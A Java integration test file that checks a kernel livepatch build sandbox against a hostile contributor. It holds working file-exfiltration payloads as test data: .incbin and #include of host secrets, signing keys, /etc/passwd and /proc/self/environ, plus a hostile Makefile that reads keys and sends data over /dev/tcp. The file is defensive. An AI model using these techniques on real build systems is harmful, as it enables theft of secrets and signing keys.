package org.klpcatalog.build;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.SocketTimeoutException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.Arrays;
import java.util.List;
import java.util.Optional;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.klpcatalog.catalog.model.Kernel;
import org.klpcatalog.catalog.source.CatalogTree;
import org.klpcatalog.catalog.testing.Fixtures;
import org.klpcatalog.catalog.testing.Tools;
import org.klpcatalog.cli.CliRunner;
import org.klpcatalog.cli.ExitCodes;
import org.klpcatalog.exec.Sandbox;
import org.klpcatalog.files.FileTrees;
import org.klpcatalog.kernel.KernelCache;
import org.klpcatalog.kernel.KernelTree;
import org.klpcatalog.rpm.Signer;
import org.klpcatalog.testing.BuildTasks;
import org.klpcatalog.testing.CatalogEdits;
import org.klpcatalog.testing.ExampleCatalogs;

/**
 * A hostile contributor's livepatch.c against the real build (Debian's 6.1.0-50-amd64 headers,
 * kbuild in the sandbox): every way of pulling a host file into the module or its build log ({@code
 * .incbin} plain, through a macro, by a climbing relative path; {@code #include} by absolute and
 * relative paths; /proc) either fails to build or yields a module without a byte of the file.
 * Controls prove each attack is real: the same source built without the sandbox does copy the file,
 * and a file of the patch's own directory is copied inside it.
 */
class HostileBuildIT {
  static final String RELEASE = "6.1.0-50-amd64";
  static final String CANARY_TEXT = "CANARY-7f3a9c-host-secret-do-not-leak";
  static Path canary;
  static Path keyDir;
  static Signer signer;
  static KernelTree kernel;
  static String benign;

  @BeforeAll
  static void realHeadersACanaryAndASigningKey() throws Exception {
    ExampleCatalogs.requireBuildTools();
    Tools.require("bwrap");
    // Host files outside /tmp (the sandbox's /tmp is its own anyway): a secret and a signing key.
    Path dir = Path.of("target/hostile-build").toAbsolutePath();
    FileTrees.deleteRecursively(dir);
    Files.createDirectories(dir);
    canary = dir.resolve("canary.txt");
    Files.writeString(canary, CANARY_TEXT + "\n");
    keyDir = dir.resolve("repo.signing-key");
    signer = Signer.throwaway(keyDir);
    kernel =
        new KernelCache(ExampleCatalogs.cache(dir.resolve("cache")))
            .provide(Kernel.of(RELEASE, null, "debian"), false);
    benign =
        Files.readString(
            ExampleCatalogs.SAMPLE.resolve("patches/cad-pid-reject-kthread/livepatch.c"));
  }

  static BuildTask task(String source) {
    return BuildTasks.task(
        "hostile",
        RELEASE,
        Optional.of(source.getBytes(StandardCharsets.UTF_8)),
        new byte[0],
        List.of("proc_do_cad_pid"),
        false,
        List.of());
  }

  record Built(Optional<Path> ko, String log, Optional<String> error) {}

  static Built build(Sandbox sandbox, String source, Path tmp) throws Exception {
    Path scratch = tmp.resolve("scratch");
    Path log = tmp.resolve("build.log");
    try {
      Path ko =
          new KbuildBuilder(sandbox)
              .build(task(source), kernel, scratch, log, Duration.ofMinutes(5));
      return new Built(Optional.of(ko), Files.readString(log), Optional.empty());
    } catch (BuildException e) {
      return new Built(
          Optional.empty(),
          Files.exists(log) ? Files.readString(log) : "",
          Optional.of(e.getMessage()));
    }
  }

  static Sandbox sandbox() {
    return Sandbox.bubblewrap(Sandbox.Limits.DEFAULT);
  }

  static String incbin(String path) {
    return "\nasm(\".pushsection .rodata.klpleak,\\\"a\\\"\\n.incbin \\\""
        + path
        + "\\\"\\n.popsection\");\n";
  }

  static boolean contains(byte[] haystack, byte[] needle) {
    outer:
    for (int i = 0; i + needle.length <= haystack.length; i++) {
      for (int j = 0; j < needle.length; j++) {
        if (haystack[i + j] != needle[j]) {
          continue outer;
        }
      }
      return true;
    }
    return false;
  }

  /** Neither the module (if any) nor the log holds a byte sequence of {@code secret}. */
  static void assertNoLeak(Built b, byte[] secret) throws IOException {
    byte[] probe = Arrays.copyOf(secret, Math.min(secret.length, 24));
    if (b.ko().isPresent()) {
      assertThat(contains(Files.readAllBytes(b.ko().get()), probe))
          .as("module holds the host file")
          .isFalse();
    }
    assertThat(contains(b.log().getBytes(StandardCharsets.UTF_8), probe))
        .as("log holds the host file")
        .isFalse();
  }

  @Test
  void controlsTheAttackIsRealWithoutTheSandboxAndOwnFilesWork(@TempDir Path tmp) throws Exception {
    // Without the sandbox the very same source copies the host file into the module.
    Built open =
        build(
            Sandbox.unconfined(Sandbox.Limits.DEFAULT),
            benign + incbin(canary.toString()),
            tmp.resolve("open"));
    assertThat(open.error()).isEmpty();
    assertThat(contains(Files.readAllBytes(open.ko().orElseThrow()), CANARY_TEXT.getBytes()))
        .isTrue();
    // In the sandbox, .incbin of a file of the build's own directory works: the mechanism is
    // intact.
    Built own =
        build(sandbox(), benign + incbin("/build/kpatch_hostile_1_1.c"), tmp.resolve("own"));
    assertThat(own.error()).as(own.log()).isEmpty();
    assertThat(
            contains(
                Files.readAllBytes(own.ko().orElseThrow()), "MODULE_INFO(livepatch".getBytes()))
        .isTrue();
  }

  @Test
  void incbinOfAHostFileByAbsolutePathFails(@TempDir Path tmp) throws Exception {
    Built b = build(sandbox(), benign + incbin(canary.toString()), tmp);
    assertThat(b.error()).hasValueSatisfying(e -> assertThat(e).contains("does not compile"));
    assertThat(b.log()).contains("file not found");
    assertNoLeak(b, CANARY_TEXT.getBytes());
  }

  @Test
  void theSigningKeyIsNeverReadable(@TempDir Path tmp) throws Exception {
    try (Stream<Path> s = Files.walk(keyDir)) {
      List<Path> keyFiles =
          s.filter(Files::isRegularFile)
              .filter(
                  p ->
                      p.toString().endsWith(".key")
                          || p.getFileName().toString().equals("pubring.kbx"))
              .toList();
      assertThat(keyFiles).isNotEmpty();
      for (Path key : keyFiles) {
        Built b =
            build(
                sandbox(),
                benign + incbin(key.toString()),
                tmp.resolve(key.getFileName().toString()));
        assertThat(b.error()).as(key.toString()).isPresent();
        assertNoLeak(b, Files.readAllBytes(key));
      }
    }
  }

  @Test
  void incbinThroughAMacroAndAClimbingRelativePathFail(@TempDir Path tmp) throws Exception {
    String macro =
        benign
            + "\n"
            + "#define KLP_LEAK(f) asm(\".pushsection .rodata.x,\\\"a\\\"\\n"
            + ".incbin \\\"\" f \"\\\"\\n"
            + ".popsection\")\n"
            + "#define KLP_PATH \""
            + canary
            + "\"\nKLP_LEAK(KLP_PATH);\n";
    Built viaMacro = build(sandbox(), macro, tmp.resolve("macro"));
    assertThat(viaMacro.error()).isPresent();
    assertNoLeak(viaMacro, CANARY_TEXT.getBytes());
    String climbing = "../../../../../../../../.." + canary;
    Built viaClimb = build(sandbox(), benign + incbin(climbing), tmp.resolve("climb"));
    assertThat(viaClimb.error()).isPresent();
    assertNoLeak(viaClimb, CANARY_TEXT.getBytes());
  }

  @Test
  void includesOfHostFilesFailWithoutPrintingThem(@TempDir Path tmp) throws Exception {
    for (String include :
        List.of(
            "\"" + canary + "\"",
            "\"../../../../../../../.." + canary + "\"",
            "<" + canary + ">",
            "\"/proc/self/environ\"",
            "\"/etc/hostname\"")) {
      Built b =
          build(
              sandbox(),
              "#include " + include + "\n" + benign,
              tmp.resolve(Integer.toString(include.hashCode())));
      assertThat(b.error())
          .as(include)
          .hasValueSatisfying(e -> assertThat(e).contains("No such file or directory"));
      assertNoLeak(b, CANARY_TEXT.getBytes());
    }
    // The sandbox's /etc/passwd is its own two-line file: the compiler may quote that, never the
    // host's.
    List<String> hostOnly =
        Files.readAllLines(Path.of("/etc/passwd")).stream()
            .filter(l -> !l.startsWith("root:") && !l.startsWith("nobody:") && !l.isBlank())
            .toList();
    assertThat(hostOnly).isNotEmpty();
    for (String include : List.of("\"/etc/passwd\"", "\"../../../../../../../etc/passwd\"")) {
      Built b =
          build(
              sandbox(),
              "#include " + include + "\n" + benign,
              tmp.resolve(Integer.toString(include.hashCode())));
      assertThat(b.error()).as(include).isPresent();
      assertThat(hostOnly).allSatisfy(l -> assertThat(b.log()).doesNotContain(l));
    }
  }

  @Test
  void aHostileMakefileInTheHeadersTreeRunsConfined(@TempDir Path tmp) throws Exception {
    Tools.require("bash");
    Path outside = Path.of("target/hostile-build/outside").toAbsolutePath();
    Files.createDirectories(outside);
    Files.deleteIfExists(outside.resolve("pwned"));
    Path key =
        Files.walk(keyDir).filter(p -> p.toString().endsWith(".key")).findFirst().orElseThrow();
    try (ServerSocket listener = new ServerSocket(0, 5, InetAddress.getLoopbackAddress())) {
      listener.setSoTimeout(1000);
      Path root = tmp.resolve("headers-root");
      Path headers = root.resolve("usr/src/linux-headers-" + RELEASE);
      Files.createDirectories(headers);
      Files.writeString(
          headers.resolve("Makefile"),
          String.join(
              "\n",
              "LEAK := $(shell cat " + canary + " " + key + ")",
              "modules:",
              "\t-cat " + canary,
              "\t-cat " + key,
              "\t-touch " + outside.resolve("pwned"),
              "\t-bash -c 'echo leak > /dev/tcp/127.0.0.1/" + listener.getLocalPort() + "'",
              "\t-cp " + canary + " $(M)/kpatch_hostile_1_1.ko",
              "\t-ln -sf " + canary + " $(M)/kpatch_hostile_1_1.ko",
              "\t@echo 'makefile ran: $(LEAK)'",
              ""));
      KernelTree hostile =
          new KernelTree(
              RELEASE,
              "rpm-repo",
              headers,
              Optional.empty(),
              Optional.empty(),
              "hostile",
              "hostile");
      Path log = tmp.resolve("build.log");
      assertThatThrownBy(
              () ->
                  new KbuildBuilder(sandbox())
                      .build(
                          task(benign),
                          hostile,
                          tmp.resolve("scratch"),
                          log,
                          Duration.ofMinutes(2)))
          .isInstanceOf(BuildException.class);
      String text = Files.readString(log);
      assertThat(text).contains("makefile ran:").doesNotContain(CANARY_TEXT);
      assertThat(
              contains(
                  text.getBytes(StandardCharsets.UTF_8),
                  Arrays.copyOf(Files.readAllBytes(key), 24)))
          .isFalse();
      assertThat(outside.resolve("pwned")).doesNotExist();
      boolean reached;
      try (var s = listener.accept()) {
        reached = true;
      } catch (SocketTimeoutException e) {
        reached = false;
      }
      assertThat(reached).as("the Makefile reached the host's network").isFalse();
    }
  }

  @Test
  void aLivepatchSourceThatIsALinkToAHostFileIsRefusedBeforeAnyBuild(@TempDir Path tmp)
      throws Exception {
    CatalogTree tree = ExampleCatalogs.twoKernels();
    Path dir = tmp.resolve("catalog");
    Fixtures.write(tree, dir);
    Path source = dir.resolve("patches/cad-pid-reject-kthread/livepatch.c");
    for (Path target : List.of(canary, Path.of("../../../../../../../../.." + canary))) {
      Files.delete(source);
      Files.createSymbolicLink(source, target);
      Path out = tmp.resolve("out");
      CliRunner.Run r =
          CliRunner.run(
              "build",
              "--catalog",
              dir.toString(),
              "--out",
              out.toString(),
              "--unsigned",
              "--cache",
              ExampleCatalogs.cache(tmp.resolve("cache")).toString());
      assertThat(r.exitCode()).as(r.out() + r.err()).isEqualTo(ExitCodes.INVALID);
      assertThat(r.out())
          .contains("patches/cad-pid-reject-kthread/livepatch.c")
          .contains("symbolic link")
          .contains("nothing built")
          .doesNotContain(CANARY_TEXT);
      assertThat(out.resolve("modules")).doesNotExist();
    }
  }

  @Test
  void aReconcileOfAHostilePatchPublishesNothing(@TempDir Path tmp) throws Exception {
    CatalogTree tree = ExampleCatalogs.twoKernels();
    for (String other :
        List.of(
            "binfmt-misc-removed-entry",
            "binfmt-misc-restore-write-access",
            "ns-last-pid-range",
            "printk-restrict-audit",
            "proc-cwd-kthread",
            "sysrq-reject-negative",
            "sysrq-validate-mask")) {
      tree = CatalogEdits.withoutPatch(tree, other);
    }
    Path repo = tmp.resolve("repo");
    // The throwaway key of a reconcile lives beside the repository; the contributor knows where.
    String keyring =
        repo.toAbsolutePath()
            .normalize()
            .resolveSibling("repo.signing-key")
            .resolve("gnupg/pubring.kbx")
            .toString();
    tree =
        CatalogEdits.edit(
            tree, "patches/cad-pid-reject-kthread/livepatch.c", s -> s + incbin(keyring));
    Path dir = tmp.resolve("catalog");
    Fixtures.write(tree, dir);
    CliRunner.Run r =
        CliRunner.run(
            "reconcile",
            "--catalog",
            dir.toString(),
            "--repo",
            repo.toString(),
            "--no-qa",
            "--cache",
            ExampleCatalogs.cache(tmp.resolve("cache")).toString());
    assertThat(r.exitCode()).as(r.out() + r.err()).isEqualTo(ExitCodes.FAILED);
    assertThat(r.out())
        .contains("failed: kpatch-cad-pid-reject-kthread")
        .contains("does not compile")
        .contains("Nothing published");
    assertThat(repo.resolve("current")).doesNotExist();
    assertThat(Files.exists(Path.of(keyring))).as("the key the patch aimed at exists").isTrue();
    // Build logs live beside the repository, never inside what a web server serving it shows.
    assertThat(r.out()).contains("log: " + tmp.resolve("repo.staging").resolve("logs"));
    try (Stream<Path> inRepo = Files.walk(repo)) {
      assertThat(inRepo.map(Path::toString))
          .noneMatch(f -> f.endsWith(".log") || f.contains("staging"));
    }
  }
}
